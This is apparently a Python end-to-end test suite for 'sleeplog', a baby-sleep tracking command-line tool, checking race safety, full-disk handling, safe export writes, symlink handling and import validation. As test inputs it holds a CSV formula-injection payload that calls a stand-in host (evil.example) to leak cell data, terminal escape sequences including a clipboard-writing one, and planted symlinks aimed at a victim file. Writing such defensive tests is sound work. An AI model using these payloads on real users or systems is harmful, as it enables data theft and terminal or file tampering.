"""End-to-end: the faults an outside probe found, one test class per fault, each named
after the behaviour it holds. Nothing lost, nothing overwritten, nothing injected."""

import json
import os
import random
import resource
import shutil
import signal
import sqlite3
import stat
import subprocess

from harness import BIN, SleeplogTest, main

NOBODY = 65534


def as_nobody():
    """Runs the child as an unprivileged user, so file modes apply even under root."""
    if os.geteuid() == 0:
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)


HEADER = "id,uuid,child,night,kind,start,end,duration_s,by,note\n"


class ConcurrentFirstCommandsCreateOneDatabase(SleeplogTest):
    """Processes starting at once on a missing database: every reported success is
    stored, no failure removes anything, no reader sees a half-made schema."""

    succeeding = [["note", "{tag}", "--at", "{at}"], ["config", "caregiver", "{tag}"]]
    failing = [["cry", "stop"], ["config", "week-start", "xyz"],
               ["config", "default-child", "Nobody"], ["child", "rename", "a", "b"]]

    def test_200_rounds_of_racing_first_commands(self):
        seed = int(os.environ.get("SLEEPLOG_RACE_SEED", random.randrange(1 << 30)))
        rng = random.Random(seed)
        for round_no in range(200):
            db = os.path.join(self.dir, f"r{round_no}", "sub", "s.db")
            env = self.env(SLEEPLOG_DB=db)
            commands = []
            for i in range(rng.randint(2, 8)):
                tag = f"t{round_no}-{i}"
                pick = rng.random()
                if pick < 0.4:
                    template, expect = rng.choice(self.succeeding), 0
                elif pick < 0.8:
                    template, expect = rng.choice(self.failing), 2
                else:
                    template, expect = ["status"], 0
                at = f"06:{10 + i:02}"  # distinct moments: never a repeated one
                commands.append(([a.format(tag=tag, at=at) for a in template], expect, tag))
            procs = [subprocess.Popen([BIN, *args], env=env, stdout=subprocess.PIPE,
                                      stderr=subprocess.PIPE, text=True)
                     for args, _, _ in commands]
            results = [(p, *p.communicate(timeout=60)) for p in procs]
            stored_notes, children, caregivers = set(), set(), set()
            if os.path.exists(db):
                con = sqlite3.connect(db)
                stored_notes = {r[0] for r in con.execute("SELECT note FROM event")}
                children = {r[0] for r in con.execute("SELECT name FROM child")}
                caregivers = {r[0] for r in con.execute(
                    "SELECT value FROM setting WHERE key = 'caregiver'")}
                con.close()
            context = f"seed {seed} round {round_no}"
            for (args, expect, tag), (proc, out, err) in zip(commands, results):
                self.assertEqual(proc.returncode, expect, f"{context}: {args}: {out}{err}")
                self.assertNotIn("schema version", err, context)
                self.assertNotIn("already exists", err, context)
                if args[0] == "note":
                    self.assertIn(tag, stored_notes, f"{context}: {args} said {out}")
                elif args[:2] == ["config", "caregiver"]:
                    self.assertTrue(caregivers, context)
            if all(expect != 0 or args[0] == "status" for args, expect, _ in commands):
                self.assertFalse(os.path.exists(db), f"{context}: failed commands made a file")
            folder = os.path.dirname(db)
            if os.path.isdir(folder):
                leftovers = [n for n in os.listdir(folder) if n.startswith(".s.db.")]
                self.assertEqual(leftovers, [], context)


class FullDiskOnStdoutFailsWithAMessage(SleeplogTest):
    def setUp(self):
        super().setUp()
        self.ok("demo", "--nights", "120")

    def test_export_to_dev_full_fails_with_a_message(self):
        with open("/dev/full", "w") as full:
            proc = subprocess.run([BIN, "export"], stdout=full, stderr=subprocess.PIPE,
                                  text=True, env=self.env(), timeout=60)
        self.assertEqual(proc.returncode, 1, proc.stderr)
        self.assertIn("sleeplog: error: cannot write the output: No space left on device",
                      proc.stderr)

    def test_export_cut_by_a_file_size_limit_fails(self):
        limit = 100 * 1024  # more than the database's -shm, less than the export
        self.assertGreater(len(self.ok("export").out), limit + 20 * 1024)

        def small_files():
            resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

        target = os.path.join(self.dir, "out.csv")
        with open(target, "w") as out:
            proc = subprocess.run([BIN, "export"], stdout=out, stderr=subprocess.PIPE,
                                  text=True, env=self.env(), preexec_fn=small_files, timeout=60)
        self.assertEqual(proc.returncode, 1, proc.stderr)
        self.assertIn("cannot write the output: File too large", proc.stderr)

    def test_a_text_report_to_dev_full_fails_too(self):
        with open("/dev/full", "w") as full:
            proc = subprocess.run([BIN, "list"], stdout=full, stderr=subprocess.PIPE,
                                  text=True, env=self.env(), timeout=60)
        self.assertEqual(proc.returncode, 1, proc.stderr)
        self.assertIn("cannot write the output", proc.stderr)


class ExportToAFileIsWrittenSafely(SleeplogTest):
    def setUp(self):
        super().setUp()
        self.log_worked_night()
        self.csv = self.ok("export").out

    def path(self, name):
        return os.path.join(self.dir, name)

    def test_a_planted_partial_symlink_is_never_followed(self):
        victim = self.path("victim")
        with open(victim, "w") as f:
            f.write("precious\n")
        for name in ("out.csv.partial", ".out.csv.partial"):
            os.symlink(victim, self.path(name))
        self.ok("export", "-o", self.path("out.csv"))
        with open(victim) as f:
            self.assertEqual(f.read(), "precious\n")
        with open(self.path("out.csv")) as f:
            self.assertEqual(f.read(), self.csv)
        self.assertEqual(stat.S_IMODE(os.stat(self.path("out.csv")).st_mode), 0o600)

    def test_a_symlink_at_the_target_is_refused_untouched(self):
        victim = self.path("victim")
        with open(victim, "w") as f:
            f.write("precious\n")
        os.symlink(victim, self.path("out.csv"))
        r = self.fails(2, "export", "-o", self.path("out.csv"))
        self.assertIn("is a symbolic link", r.err)
        self.assertTrue(os.path.islink(self.path("out.csv")))
        with open(victim) as f:
            self.assertEqual(f.read(), "precious\n")

    def test_a_device_or_directory_is_refused(self):
        # A private null device: a faulty build replaces this one, never the system's.
        device = self.path("null")
        try:
            os.mknod(device, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
        except PermissionError:
            self.skipTest("cannot make a device node here")
        r = self.fails(2, "export", "-o", device)
        self.assertIn("a device", r.err)
        self.assertTrue(stat.S_ISCHR(os.stat(device).st_mode))
        os.mkdir(self.path("folder"))
        r = self.fails(2, "export", "-o", self.path("folder"))
        self.assertIn("a directory", r.err)
        self.assertEqual(os.listdir(self.path("folder")), [])

    def test_a_fifo_and_dash_are_written_through(self):
        fifo = self.path("pipe.csv")
        os.mkfifo(fifo)
        reader = subprocess.Popen(["cat", fifo], stdout=subprocess.PIPE, text=True)
        try:
            result = self.run_sl("export", "-o", fifo)
            self.assertEqual(reader.communicate(timeout=30)[0], self.csv)
            self.assertEqual(result.code, 0, result)
        finally:
            reader.kill()  # never left waiting on the pipe, whatever the export did
            reader.wait()
        self.assertTrue(stat.S_ISFIFO(os.stat(fifo).st_mode))
        self.assertEqual(self.ok("export", "-o", "-").out, self.csv)

    def test_a_regular_file_is_replaced_and_nothing_left_beside_it(self):
        with open(self.path("out.json"), "w") as f:
            f.write("old")
        self.ok("export", "-o", self.path("out.json"))
        with open(self.path("out.json")) as f:
            self.assertEqual(len(json.load(f)), 10)
        self.assertEqual(sorted(n for n in os.listdir(self.dir) if "out" in n), ["out.json"])


class SymlinkedDatabasePathsFollowedOrRefused(SleeplogTest):
    def test_home_under_a_symlinked_folder_works(self):
        real = os.path.join(self.dir, "real-home")
        os.mkdir(real)
        link = os.path.join(self.dir, "home")
        os.symlink(real, link)
        env = self.env(HOME=link, SLEEPLOG_DB=None)
        self.ok("bed", "19:00", env=env)
        self.assertRegex(self.ok("list", env=env).out, r"#1 +2026-11-27 +bed +19:00")
        stored = os.path.join(real, ".local", "share", "sleeplog", "sleeplog.db")
        self.assertEqual(len(self.query("SELECT id FROM event", path=stored)), 1)

    def test_a_symlinked_database_file_is_followed(self):
        self.ok("bed", "19:00")
        link = os.path.join(self.dir, "link.db")
        os.symlink(self.db, link)
        self.ok("asleep", "19:20", SLEEPLOG_DB=link)
        self.assertTrue(os.path.islink(link))
        self.assertEqual(len(self.query("SELECT id FROM event")), 2)

    def test_a_dangling_symlink_is_refused_clearly(self):
        link = os.path.join(self.dir, "link.db")
        os.symlink(os.path.join(self.dir, "nowhere", "x.db"), link)
        r = self.fails(1, "bed", "19:00", SLEEPLOG_DB=link)
        self.assertIn("is a symbolic link to nothing", r.err)
        self.assertFalse(os.path.exists(os.path.join(self.dir, "nowhere")))


class TerminalControlSequencesAreEscaped(SleeplogTest):
    def assert_clean(self, text):
        self.assertNotIn("\x1b", text)
        self.assertNotIn("\x9b", text)
        self.assertNotIn("\x07", text)

    def test_error_messages_escape_what_they_echo(self):
        self.ok("bed", "19:00")
        r = self.fails(2, "-c", "\x1b[2J", "status")
        self.assert_clean(r.err)
        self.assertIn("no child named '\\x1b[2J'", r.err)

    def test_import_messages_and_imported_child_names(self):
        path = os.path.join(self.dir, "in.csv")
        with open(path, "w") as f:
            f.write(HEADER + ",,baby,,\x1b]0;owned\x07,2026-11-27T19:00:00-05:00,,,,\n")
        r = self.fails(2, "import", path)
        self.assert_clean(r.err)
        self.assertIn("\\x1b]0;owned\\x07", r.err)
        with open(path, "w") as f:
            f.write(HEADER + ",,\x1b[31mEve\x9b,,bed,2026-11-27T19:00:00-05:00,,,,\n")
        r = self.ok("import", path)
        self.assert_clean(r.out + r.err)
        listing = self.ok("child", "list").out
        self.assert_clean(listing)
        self.assertIn("\\x1b[31mEve\\u009b", listing)

    def test_config_output(self):
        self.ok("config", "caregiver", "Mum\x1b]52;c;aGk=\x07")
        for args in (["config"], ["config", "caregiver"]):
            out = self.ok(*args).out
            self.assert_clean(out)
            self.assertIn("Mum\\x1b]52;c;aGk=\\x07", out)

    def test_c1_controls_in_list_and_show(self):
        self.log_worked_night()
        self.ok("note", "a\x9b2Jb\u202egnp.exe", "--at", "2026-11-27 20:00")
        for args in (["list"], ["show"], ["list", "--color", "always"]):
            out = self.ok(*args).out
            self.assert_clean(out)
            self.assertIn("a\\u009b2Jb\\u202egnp.exe", out)
        # Data keeps the exact text.
        events = self.ok("list", "--format", "json").json()
        self.assertIn("a\x9b2Jb\u202egnp.exe", [e["note"] for e in events])


class EveryExportImportsBackExactly(SleeplogTest):
    def write(self, name, text):
        path = os.path.join(self.dir, name)
        with open(path, "wb") as f:
            f.write(text.encode("utf-8", "surrogateescape") if isinstance(text, str) else text)
        return path

    def test_years_outside_1900_to_2199_refused_at_entry_and_import(self):
        r = self.fails(2, "bed", "1899-12-31", "19:00")
        self.assertIn("outside the years 1900 to 2199", r.err)
        self.assertFalse(os.path.exists(self.db))
        path = self.write("old.csv", HEADER + ",,baby,,bed,0000-01-01T19:00:00+00:00,,,,\n"
                          ",,baby,,bed,2200-01-01T19:00:00+00:00,,,,\n")
        r = self.fails(2, "import", path)
        self.assertIn("old.csv:2: a time outside the years 1900 to 2199", r.err)
        self.assertIn("old.csv:3: a time outside the years 1900 to 2199", r.err)

    def test_nul_and_invalid_utf8_refused_with_file_and_line(self):
        r = self.fails(2, "note", "caf\udce9")  # a Latin-1 byte, not UTF-8
        self.assertIn("note is not valid UTF-8", r.err)
        r = self.fails(2, "child", "add", "Zo\udceb")
        self.assertIn("not valid UTF-8", r.err)
        self.assertFalse(os.path.exists(self.db))
        path = self.write("bad.jsonl", b'{"kind":"note","start":"2026-11-27T20:00:00-05:00",'
                          b'"note":"a\\u0000b"}\n'
                          b'{"kind":"note","start":"2026-11-27T20:00:00-05:00","note":"\xff"}\n')
        r = self.fails(2, "import", path)
        self.assertIn("bad.jsonl:1: note holds a NUL character", r.err)
        self.assertIn("bad.jsonl:2: note is not valid UTF-8", r.err)

    def test_offsets_with_seconds_round_trip(self):
        # Monrovia kept local mean time (-00:44:30) until 1972.
        self.ok("bed", "1950-03-01", "19:00", TZ="Africa/Monrovia")
        csv = self.ok("export").out
        self.assertIn("1950-03-01T19:00:00-00:44:30", csv)
        path = self.write("e.csv", csv)
        other = os.path.join(self.dir, "other.db")
        self.ok("import", path, SLEEPLOG_DB=other)
        self.assertEqual(self.ok("export", SLEEPLOG_DB=other).out, csv)
        rows = self.query("SELECT start_at, utc_offset FROM event", path=other)
        self.assertEqual(rows[0][1], -2670)

    def test_ids_are_exact_64_bit_integers_in_json_and_over_2_53_refused(self):
        big = 2 ** 53 - 2 ** 32
        path = self.write("ids.csv", HEADER + f"{big},,baby,,bed,2026-11-27T19:00:00-05:00,,,,\n")
        self.ok("import", path)
        out = self.ok("export", "--format", "json").out
        self.assertIn(f'"id":{big},', out)
        self.assertEqual(json.loads(out)[0]["id"], big)
        path = self.write("big.csv", HEADER + f"{2 ** 53 + 1},,baby,,bed,"
                          "2026-11-26T19:00:00-05:00,,,,\n")
        r = self.fails(2, "import", path)
        self.assertIn("big.csv:2: id 9007199254740993 is above 2^53 - 2^32", r.err)

    def test_future_events_refused_on_import(self):
        path = self.write("f.csv", HEADER + ",,baby,,bed,2026-11-28T19:00:00-05:00,,,,\n"
                          ",,baby,,nap,2026-11-28T06:00:00-05:00,2026-11-28T08:00:00-05:00,,,\n")
        r = self.fails(2, "import", path)
        self.assertIn("f.csv:2: in the future", r.err)
        self.assertIn("f.csv:3: in the future", r.err)
        self.assertFalse(os.path.exists(self.db))


class FormulaGuardOnEveryTextCell(SleeplogTest):
    def test_uuid_is_guarded_and_comes_back_exact(self):
        uuid = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
        path = os.path.join(self.dir, "in.csv")
        with open(path, "w") as f:
            f.write(HEADER + f',"{uuid.replace(chr(34), chr(34) * 2)}",baby,,bed,'
                    "2026-11-27T19:00:00-05:00,,,+by,-note\n")
        self.ok("import", path)
        self.assertEqual(self.query("SELECT uuid, by_name, note FROM event"),
                         [(uuid, "+by", "-note")])
        csv = self.ok("export").out
        cells = csv.splitlines()[1]
        self.assertIn("\"'=HYPERLINK(", cells)
        self.assertIn(",'+by,'-note", cells)
        again = os.path.join(self.dir, "again.csv")
        with open(again, "w") as f:
            f.write(csv)
        other = os.path.join(self.dir, "other.db")
        self.ok("import", again, SLEEPLOG_DB=other)
        self.assertEqual(self.query("SELECT uuid FROM event", path=other), [(uuid,)])
        self.assertEqual(self.ok("export", SLEEPLOG_DB=other).out, csv)


class FailedFirstCommandsCreateNothing(SleeplogTest):
    def test_failing_first_commands_leave_no_database(self):
        for args in (["cry", "stop"], ["config", "week-start", "xyz"],
                     ["config", "default-child", "Nobody"], ["child", "rename", "a", "b"],
                     ["edit", "1", "--note", "x"], ["rm", "1"], ["undo"]):
            self.fails(2, *args)
            self.assertFalse(os.path.exists(self.db), args)
        folder = os.path.dirname(self.db)
        self.assertEqual(os.listdir(folder) if os.path.isdir(folder) else [], [])

    def test_a_succeeding_first_command_creates_a_wal_database(self):
        self.ok("config", "week-start", "sun")
        self.assertEqual(self.query("PRAGMA journal_mode"), [("wal",)])
        self.assertEqual(stat.S_IMODE(os.stat(self.db).st_mode), 0o600)
        self.assertEqual(self.ok("config", "week-start").out, "sun\n")


class ImportAndOpeningEdgeCases(SleeplogTest):
    def test_huge_baby_tracker_duration_is_a_bad_row(self):
        path = os.path.join(self.dir, "sleep.csv")
        with open(path, "w") as f:
            f.write('Baby,Time,Duration(minutes),Note\nMax,"3/7/20, 19:45",1e300,\n'
                    'Max,"3/8/20, 19:45",nan,\n')
        r = self.fails(2, "import", path)
        self.assertIn("sleep.csv:2: a sleep of 1e300 minutes is longer than 24 h", r.err)
        self.assertIn("sleep.csv:3: bad duration 'nan'", r.err)

    def test_negative_user_version_refused_untouched(self):
        self.log_worked_night()
        con = sqlite3.connect(self.db)
        con.execute("PRAGMA user_version = -1")
        con.close()
        digest = self.digest()
        for args in (["list"], ["bed", "19:00"], ["undo"]):
            r = self.fails(1, *args)
            self.assertIn("schema version -1, which no sleeplog ever wrote", r.err)
            self.assertEqual(self.digest(), digest)
        self.assertEqual(self.query("PRAGMA user_version"), [(-1,)])

    def test_import_of_a_folder_says_so(self):
        r = self.fails(2, "import", self.dir)
        self.assertIn(f"{self.dir} is a folder, not a file", r.err)

    def test_last_zero_is_explained(self):
        self.log_worked_night()
        r = self.fails(2, "list", "--last", "0")
        self.assertIn("--last: give a number of nights, 1 or more (not '0')", r.err)
        self.assertNotIn("1.8e308", r.err)
        self.assertNotIn("did you mean", r.err)

    def test_read_only_database_in_a_read_only_folder_is_read(self):
        self.log_worked_night()
        listing = self.ok("list", "--format", "csv").out
        folder = os.path.dirname(self.db)
        self.assertEqual(sorted(os.listdir(folder)), ["sleeplog.db"])  # no -wal, no -shm
        os.chmod(self.dir, 0o755)
        os.chmod(folder, 0o555)
        os.chmod(self.db, 0o444)
        digest = self.digest()
        try:
            proc = subprocess.run([BIN, "list", "--format", "csv"], capture_output=True,
                                  text=True, env=self.env(), preexec_fn=as_nobody, timeout=60)
        finally:
            os.chmod(folder, 0o755)
        self.assertEqual(proc.returncode, 0, proc.stderr)
        self.assertEqual(proc.stdout, listing)
        self.assertEqual(self.digest(), digest)
        self.assertEqual(sorted(os.listdir(folder)), ["sleeplog.db"])


if __name__ == "__main__":
    main()
